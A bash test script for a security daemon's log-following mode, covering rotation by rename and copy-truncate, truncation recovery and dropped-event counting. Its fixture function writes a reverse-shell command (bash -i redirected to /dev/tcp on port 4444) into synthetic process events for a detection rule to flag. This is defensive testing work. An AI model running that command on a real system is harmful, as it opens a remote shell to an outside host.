#!/bin/bash
# worktraced --follow: the rotation drills (100,000 lines written while the file is rotated 10
# times by rename, then by copy-truncate: every line processed exactly once, the reverse
# shells among them all flagged once), and the edges: a partial last line completed later,
# the file deleted and recreated, start at the end vs --from-start, copy-truncate with no copy
# left (losses reported) and a truncated file regrown past the read offset.
. "$(dirname "$0")/lib.sh"
need_jq
DRILL="$WT_BUILDDIR/testsuite/followdrill"
RULES=$(stdlib_wtb)
pid=
trap '[ -n "$pid" ] && kill -9 "$pid" 2>/dev/null; rm -rf "$TMP"' EXIT

# start NAME FILE [flags...]: follow FILE in the background
start() {
	local name=$1 file=$2
	shift 2
	"$WTD" --rules "$RULES" --follow "$file" --dedup-window 0 --queue-size 65536 "$@" \
		>"$TMP/$name.out" 2>"$TMP/$name.err" &
	pid=$!
	wait_for "$TMP/$name.err" "following $file from byte" || { fail "$name: never opened $file"; cat "$TMP/$name.err"; }
}
# wait_for FILE REGEX: bounded wait (20 s) until a line of FILE matches
wait_for() {
	for _ in $(seq 200); do
		grep -qE -- "$2" "$1" 2>/dev/null && return 0
		kill -0 "$pid" 2>/dev/null || break
		sleep 0.1
	done
	grep -qE -- "$2" "$1" 2>/dev/null
}
# wait_threats NAME N: bounded wait (30 s) until N threat records are written
wait_threats() {
	for _ in $(seq 300); do
		[ "$(wc -l <"$TMP/$1.out")" -ge "$2" ] && return 0
		sleep 0.1
	done
	return 1
}
# stop NAME [SIGNAL]: SIGTERM (or SIGNAL), exit status 0 within 10 s
stop() {
	local sig=${2:-TERM}
	kill -"$sig" "$pid"
	for _ in $(seq 100); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
	wait "$pid"
	local rc=$?
	pid=
	[ $rc -eq 0 ] && pass "$1: SIG$sig, exit 0" || { fail "$1: exit status $rc"; cat "$TMP/$1.err"; }
}
val() { grep 'summary:' "$TMP/$1.err" | sed -n "s/.* $2=\([0-9]*\).*/\1/p"; }
# check NAME KEY=VALUE...: summary counters
check() {
	local name=$1 kv bad=
	shift
	for kv in "$@"; do
		[ "$(val "$name" "${kv%%=*}")" = "${kv#*=}" ] || bad="$bad ${kv%%=*}=$(val "$name" "${kv%%=*}") (want ${kv#*=})"
	done
	[ -z "$bad" ] && pass "$name: $*" || { fail "$name:$bad"; grep -v summary "$TMP/$name.err" | head -20; }
}
# markers NAME: the marker ids of the reverse shells flagged, sorted numerically
markers() { jq -r '.process.arguments | capture("# (?<n>[0-9]+)").n' "$TMP/$1.out" | sort -n; }
# marker N: one reverse shell exec line with marker id N
marker() {
	printf '{"process_exec":{"process":{"exec_id":"bWFyazo%s","pid":%s,"uid":1000,"binary":"/bin/bash","arguments":"-c \\"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1 # %s\\"","start_time":"2026-10-14T10:00:00Z","pod":{"namespace":"ws-bob","name":"ws-bob-0","container":{"id":"containerd://42","name":"dev"},"pod_labels":{"worktrace.io/workspace":"bob-ml"}},"parent_exec_id":"cGFyZW50"}},"node_name":"n1","time":"2026-10-14T10:00:%02d.000Z"}\n' "$1" "$1" "$1" "$(($1 % 60))"
}
markers_in() { for i in $(seq "$1" "$2"); do marker "$i"; done; }

# --- rotation drills: 100,000 lines, 10 rotations during the write -------------------------
for mode in rename copytruncate; do
	: >"$TMP/$mode.log"
	start "$mode" "$TMP/$mode.log" --from-start
	"$DRILL" "$mode" "$TMP/$mode.log" 100000 10 20000 || fail "$mode: writer failed"
	wait_threats "$mode" 1000 || fail "$mode: only $(wc -l <"$TMP/$mode.out") of 1000 threats within 30 s"
	sleep 0.5 # a repeated line would show up now
	stop "$mode"
	if [ "$mode" = rename ]; then
		check rename lines=100000 events=100000 malformed=0 dropped_direct=0 follow_rotations=10 follow_truncations=0
	else
		# a copy-truncate leaves the lines written after the last read in NAME.k: read from there
		check copytruncate lines=100000 events=100000 malformed=0 dropped_direct=0 follow_rotations=0 \
			follow_truncations=10 follow_lost=0 follow_unaccounted=0
	fi
	seq 100 100 100000 >"$TMP/want.markers"
	if markers "$mode" | diff -q "$TMP/want.markers" - >/dev/null &&
		[ "$(jq -r .rule "$TMP/$mode.out" | sort -u)" = execution.reverse_shell_dev_tcp ]; then
		pass "$mode: each of the 1000 reverse shells flagged exactly once"
	else
		fail "$mode: markers $(markers "$mode" | uniq -d | head -3 | tr '\n' ' ') repeated, $(markers "$mode" | comm -13 - "$TMP/want.markers" | wc -l) missing"
	fi
done

# --- the same, unpaced: 10 rotations in well under a second, the follower far behind ----------
# (one cheap rule so the pipelines keep up with ingest: every marker must come out)
printf 'rule t.marker {\n  on exec\n  when process.binary == "/bin/bash"\n  severity high\n  output "{process.args}"\n}\n' >"$TMP/marker.wt"
"$WTC" compile -o "$TMP/marker.wtb" "$TMP/marker.wt" || fail "marker rule does not compile"
for mode in rename copytruncate; do
	name=fast-$mode
	mkdir -p "$TMP/$name"
	: >"$TMP/$name/f.log"
	RULES="$TMP/marker.wtb" start "$name" "$TMP/$name/f.log" --from-start
	"$DRILL" "$mode" "$TMP/$name/f.log" 100000 10 || fail "$name: writer failed"
	wait_threats "$name" 1000 || fail "$name: only $(wc -l <"$TMP/$name.out") of 1000 threats within 30 s"
	sleep 0.5
	stop "$name"
	if [ $mode = rename ]; then
		check "$name" lines=100000 events=100000 malformed=0 dropped_direct=0 follow_rotations=10
	else
		check "$name" lines=100000 events=100000 malformed=0 dropped_direct=0 follow_truncations=10 follow_lost=0 follow_unaccounted=0
	fi
	markers "$name" | diff -q "$TMP/want.markers" - >/dev/null && pass "$name: each of the 1000 markers once" ||
		fail "$name: markers $(markers "$name" | uniq -d | head -3 | tr '\n' ' ') repeated, $(markers "$name" | comm -13 - "$TMP/want.markers" | wc -l) missing"
done

# --- partial last line: held until its newline arrives -------------------------------------
: >"$TMP/p.log"
start partial "$TMP/p.log"
line=$(marker 1)
printf '%s' "${line:0:150}" >>"$TMP/p.log"
sleep 0.6
[ "$(wc -l <"$TMP/partial.out")" -eq 0 ] && pass "partial: half a line is not processed" || fail "partial: half a line processed"
printf '%s\n' "${line:150}" >>"$TMP/p.log"
wait_threats partial 1 || fail "partial: completed line not flagged"
stop partial
check partial lines=1 events=1 malformed=0

# --- deleted and recreated ------------------------------------------------------------------
: >"$TMP/d.log"
start deleted "$TMP/d.log"
markers_in 1 2 >>"$TMP/d.log"
wait_threats deleted 2 || fail "deleted: first two lines not flagged"
rm "$TMP/d.log"
sleep 0.3
markers_in 3 5 >>"$TMP/d.log"
wait_threats deleted 5 || fail "deleted: lines of the recreated file not flagged"
stop deleted INT
check deleted events=5 malformed=0 follow_rotations=1
[ "$(markers deleted | tr '\n' ' ')" = "1 2 3 4 5 " ] && pass "deleted: each line once" || fail "deleted: $(markers deleted | tr '\n' ' ')"

# --- behind by several rotations: generations rotated away unopened are read whole ----------
# (logrotate's NAME.N and Tetragon's own STEM-TIMESTAMP.EXT backup names)
for scheme in numbered tetragon; do
	f="$TMP/$scheme/tetragon.log"
	mkdir -p "$TMP/$scheme"
	# rot K: the K-th rotation; logrotate shifts NAME.1 to NAME.2 ... first
	rot() {
		if [ $scheme = numbered ]; then
			for ((k = $1 - 1; k >= 1; k--)); do mv "$f.$k" "$f.$((k + 1))"; done
			mv "$f" "$f.1"
		else
			mv "$f" "$TMP/$scheme/tetragon-2026-10-14T10-00-0$1.000.log"
		fi
	}
	: >"$f"
	start "$scheme" "$f"
	markers_in 1 2 >>"$f"
	wait_threats "$scheme" 2 || fail "$scheme: first lines not flagged"
	kill -STOP "$pid"
	markers_in 3 4 >>"$f"
	rot 1
	markers_in 5 6 >>"$f"
	rot 2
	markers_in 7 8 >>"$f"
	rot 3
	markers_in 9 10 >>"$f"
	kill -CONT "$pid"
	wait_threats "$scheme" 10 || fail "$scheme: $(wc -l <"$TMP/$scheme.out") of 10 threats"
	sleep 1.5 # past the drain of the rotated files: a second read would show now
	markers_in 11 11 >>"$f"
	wait_threats "$scheme" 11 || fail "$scheme: line after the drain not flagged"
	stop "$scheme"
	check "$scheme" events=11 malformed=0 follow_rotations=3
	# in order: input_seq follows the marker ids
	[ "$(jq -r '[.input_seq, (.process.arguments | capture("# (?<n>[0-9]+)").n)] | @tsv' "$TMP/$scheme.out" | sort -n | cut -f2 | tr '\n' ' ')" = \
		"$(echo $(seq 1 11)) " ] && pass "$scheme: each line once, in order" || fail "$scheme: $(markers "$scheme" | tr '\n' ' ')"
	if [ $scheme = numbered ]; then skipped=tetragon.log.2; else skipped=tetragon-2026-10-14T10-00-02.000.log; fi
	grep -q "$skipped was rotated away before it was read; reading it whole" "$TMP/$scheme.err" &&
		pass "$scheme: the skipped generation is reported" || fail "$scheme: $(grep -v summary "$TMP/$scheme.err")"
done

# --- a file that does not exist yet is read whole once it appears ---------------------------
"$WTD" --rules "$RULES" --follow "$TMP/later.log" --dedup-window 0 >"$TMP/later.out" 2>"$TMP/later.err" &
pid=$!
wait_for "$TMP/later.err" "later.log: No such file or directory; waiting for it to appear" || fail "later: no waiting message"
markers_in 1 3 >"$TMP/later.tmp"
mv "$TMP/later.tmp" "$TMP/later.log"
wait_threats later 3 || fail "later: lines not flagged"
stop later
check later events=3 follow_rotations=0

# --- start at the end (a partial last line is read once complete) vs --from-start -------------
markers_in 1 5 >"$TMP/e.log"
line=$(marker 6)
printf '%s' "${line:0:100}" >>"$TMP/e.log"
cp "$TMP/e.log" "$TMP/s.log"
start atend "$TMP/e.log"
printf '%s\n' "${line:100}" >>"$TMP/e.log"
markers_in 7 8 >>"$TMP/e.log"
wait_threats atend 3 || fail "atend: appended lines not flagged"
sleep 0.3
stop atend
check atend events=3 malformed=0
[ "$(markers atend | tr '\n' ' ')" = "6 7 8 " ] && pass "atend: only lines from the end" || fail "atend: $(markers atend | tr '\n' ' ')"
start fromstart "$TMP/s.log" --from-start
printf '%s\n' "${line:100}" >>"$TMP/s.log"
wait_threats fromstart 6 || fail "fromstart: lines not flagged"
stop fromstart
check fromstart events=6 malformed=0
[ "$(markers fromstart | tr '\n' ' ')" = "1 2 3 4 5 6 " ] && pass "fromstart: every line" || fail "fromstart: $(markers fromstart | tr '\n' ' ')"

# --- copy-truncate while the follower is stopped ---------------------------------------------
# (1) the copy is beside the file: the unread lines come from it; (2) the copy went elsewhere:
# the loss is reported as not countable; (3) truncated and regrown past the offset: the new
# content is recognized (the bytes before the offset changed) and read from its start.
for case in besides elsewhere regrown; do
	: >"$TMP/$case.log"
	mkdir -p "$TMP/archive"
	start "$case" "$TMP/$case.log"
	markers_in 1 10 >>"$TMP/$case.log"
	wait_threats "$case" 10 || fail "$case: first lines not flagged"
	kill -STOP "$pid"
	markers_in 11 15 >>"$TMP/$case.log"
	case $case in
	besides) cp "$TMP/$case.log" "$TMP/$case.log.1" ;;
	*) cp "$TMP/$case.log" "$TMP/archive/$case.log.1" ;;
	esac
	: >"$TMP/$case.log"
	if [ $case = regrown ]; then markers_in 101 120 >>"$TMP/$case.log"; else markers_in 101 103 >>"$TMP/$case.log"; fi
	kill -CONT "$pid"
	case $case in
	besides) want="$(seq 1 15) $(seq 101 103)" n=18 ;;
	elsewhere) want="$(seq 1 10) $(seq 101 103)" n=13 ;;
	regrown) want="$(seq 1 10) $(seq 101 120)" n=30 ;;
	esac
	wait_threats "$case" $n || fail "$case: $(wc -l <"$TMP/$case.out") of $n threats"
	sleep 0.3
	stop "$case"
	case $case in
	besides) check besides events=18 malformed=0 follow_truncations=1 follow_recovered=5 follow_unaccounted=0 ;;
	*) check "$case" events=$n malformed=0 follow_truncations=1 follow_recovered=0 follow_unaccounted=1 ;;
	esac
	[ "$(markers "$case" | tr '\n' ' ')" = "$(echo $want) " ] && pass "$case: each line once, none of another content" ||
		fail "$case: $(markers "$case" | tr '\n' ' ')"
done
# logrotate's race: the copy is taken, the writer appends, then the file is truncated; the
# follower had read the appended lines, so nothing is unread though the copy is shorter
: >"$TMP/racy.log"
start racy "$TMP/racy.log"
markers_in 1 3 >>"$TMP/racy.log"
wait_threats racy 3 || fail "racy: first lines not flagged"
cp "$TMP/racy.log" "$TMP/racy.log.1"
markers_in 4 5 >>"$TMP/racy.log"
wait_threats racy 5 || fail "racy: appended lines not flagged"
: >"$TMP/racy.log"
markers_in 6 7 >>"$TMP/racy.log"
wait_threats racy 7 || fail "racy: lines after the truncation not flagged"
sleep 0.3
stop racy
check racy events=7 malformed=0 follow_truncations=1 follow_recovered=0 follow_lost=0 follow_unaccounted=0
[ "$(markers racy | tr '\n' ' ')" = "1 2 3 4 5 6 7 " ] && pass "racy: each line once" || fail "racy: $(markers racy | tr '\n' ' ')"
grep -q "its copy racy.log.1 ends at byte [0-9]*, before what was read: nothing unread" "$TMP/racy.err" &&
	pass "racy: the shorter copy is recognized" || fail "racy: $(grep -v summary "$TMP/racy.err")"

# behind by two truncations: the newer copy is a whole generation never seen; the file
# itself was rewritten to the size it had (found by its bytes, not its size)
: >"$TMP/twice.log"
start twice "$TMP/twice.log"
markers_in 1 2 >>"$TMP/twice.log"
wait_threats twice 2 || fail "twice: first lines not flagged"
kill -STOP "$pid"
markers_in 3 4 >>"$TMP/twice.log"
cp "$TMP/twice.log" "$TMP/twice.log.1"
: >"$TMP/twice.log"
markers_in 5 6 >>"$TMP/twice.log"
mv "$TMP/twice.log.1" "$TMP/twice.log.2"
cp "$TMP/twice.log" "$TMP/twice.log.1"
: >"$TMP/twice.log"
markers_in 7 8 >>"$TMP/twice.log"
kill -CONT "$pid"
wait_threats twice 8 || fail "twice: $(wc -l <"$TMP/twice.out") of 8 threats"
sleep 1.5
stop twice
check twice events=8 malformed=0 follow_truncations=2 follow_recovered=2 follow_unaccounted=0
[ "$(jq -r '[.input_seq, (.process.arguments | capture("# (?<n>[0-9]+)").n)] | @tsv' "$TMP/twice.out" | sort -n | cut -f2 | tr '\n' ' ')" = \
	"1 2 3 4 5 6 7 8 " ] && pass "twice: each line once, in order" || fail "twice: $(markers twice | tr '\n' ' ')"
grep -q "no rotated copy found beside it, so lines written after the last read could not be counted" "$TMP/elsewhere.err" &&
	pass "elsewhere: the uncountable loss is reported" || fail "elsewhere: no loss message"

# --- live input never blocks: a slowed pipeline drops (counted), ingest reads every line -----
: >"$TMP/slow.log"
start slow "$TMP/slow.log" --queue-size 1024 --slow-pipeline direct:2000
# 3000 lines/s: far more than the slowed pipeline's 500 events/s, far less than the others'
"$DRILL" rename "$TMP/slow.log" 3000 0 300000 || fail "slow: writer failed"
sleep 1 # ingest has read them all by now; the direct pipeline needs 6 s
stop slow
check slow events=3000 malformed=0
d=$(val slow dropped_direct)
[ -n "$d" ] && [ "$d" -gt 0 ] && [ "$(val slow dropped_correlation)" = 0 ] &&
	pass "slow: only the slowed pipeline dropped ($d events), ingest did not wait" || fail "slow: $(grep -o 'dropped_[a-z]*=[0-9]*' "$TMP/slow.err" | tr '\n' ' ')"

# --- usage ---------------------------------------------------------------------------------
"$WTD" --rules "$RULES" --follow "$TMP/x.log" --replay "$TMP/x.log" 2>/dev/null
[ $? -eq 64 ] && pass "--follow with --replay: usage error" || fail "--follow with --replay accepted"
"$WTD" --rules "$RULES" --replay "$TMP/s.log" --from-start 2>/dev/null
[ $? -eq 64 ] && pass "--from-start without --follow: usage error" || fail "--from-start without --follow accepted"
"$WTD" --rules "$RULES" --follow "$TMP/no-such-dir/x.log" 2>"$TMP/nodir.err"
rc=$?
[ $rc -eq 74 ] && grep -q "directory $TMP/no-such-dir: No such file or directory" "$TMP/nodir.err" &&
	pass "--follow in a missing directory: exit 74 with a message" || fail "missing directory: exit $rc: $(cat "$TMP/nodir.err")"
mkfifo "$TMP/pipe.log"
for f in /dev/zero "$TMP/pipe.log" /proc/self/status; do
	"$WTD" --rules "$RULES" --follow "$f" 2>"$TMP/nonreg.err"
	rc=$?
	[ $rc -eq 74 ] && grep -q "^worktraced: --follow $f: not a regular file (read a stream with --replay)" "$TMP/nonreg.err" &&
		pass "--follow $f: refused, exit 74" || fail "--follow $f: exit $rc: $(head -1 "$TMP/nonreg.err")"
done
finish
